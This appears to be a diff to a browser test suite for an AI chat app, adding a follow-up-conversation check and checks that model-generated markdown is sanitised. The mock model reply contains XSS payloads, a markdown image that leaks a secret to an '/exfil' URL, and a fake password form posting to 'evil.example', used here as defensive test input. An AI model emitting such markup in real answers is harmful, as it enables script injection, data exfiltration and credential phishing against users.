@@ -174,6 +174,19 @@ def test_3_stop_ends_the_answer_and_the_model(page, llm):
     wait_idle(page)
     assert llm.settled_tokens() < 40, "the model kept streaming after Stop"
 
+    # the stopped first answer still started a conversation: a follow-up continues it
+    conversations = page.locator("#conversations button")
+    page.wait_for_function("document.querySelector('#conversations button[aria-current]')")
+    before = conversations.count()
+    llm.completions.append(Reply(["Where do peregrine falcons nest in cities?"]))
+    llm.replies.append(Reply(["On ", "tall ", "buildings ", "[1]."]))
+    ask(page, "and in cities?")
+    last_answer(page).locator(".answer-text", has_text="buildings").wait_for()
+    wait_idle(page)
+    assert conversations.count() == before
+    rewrite = [r["body"] for r in llm.requests if not r["body"].get("stream")][-1]
+    assert "Where do peregrine falcons nest?" in str(rewrite["messages"])
+
 
 def test_4_a_past_conversation_reopens_and_continues(page, app, llm):
     page.reload()
@@ -193,13 +206,20 @@ def test_4_a_past_conversation_reopens_and_continues(page, app, llm):
     screenshot(page, "chat-conversation.png")
 
 
-def test_5_markdown_from_the_model_is_sanitised(page, llm):
+def test_5_markdown_from_the_model_is_sanitised(page, app, llm):
+    fetched = []
+    page.on("request", lambda request: fetched.append(request.url))
     llm.replies.append(
         Reply(
             [
                 "Safe **bold** text ",
                 '<img src="x" onerror="window.hacked=1"> ',
                 "<script>window.hacked=2</script> ",
+                f"![chart]({app.url}/exfil?secret=42) ",
+                '<form action="https://evil.example/"><input type="password" name="pw">',
+                "<button>Sign in again</button></form> ",
+                '<span id="question">shadow</span> ',
+                "Use `arr[1]` in code; falcons are fast![1] ",
                 "[link](javascript:window.hacked=3) [1]",
             ]
         )
@@ -212,6 +232,11 @@ def test_5_markdown_from_the_model_is_sanitised(page, llm):
     assert answer.locator("strong", has_text="bold").count() == 1
     assert page.evaluate("window.hacked") is None
     assert answer.locator("script, [onerror], a[href^='javascript']").count() == 0
+    assert answer.locator(".answer-text :is(img, form, input, button, [id])").count() == 0
+    assert not [url for url in fetched if "exfil" in url]
+    assert answer.locator("code").inner_text() == "arr[1]"
+    assert answer.locator(".answer-text a.marker").count() == 2
+    assert page.locator("#question").count() == 1  # the page's own box, not the answer's
     answer.locator("a", has_text="link").click(force=True) if answer.locator(
         "a", has_text="link"
     ).count() else None
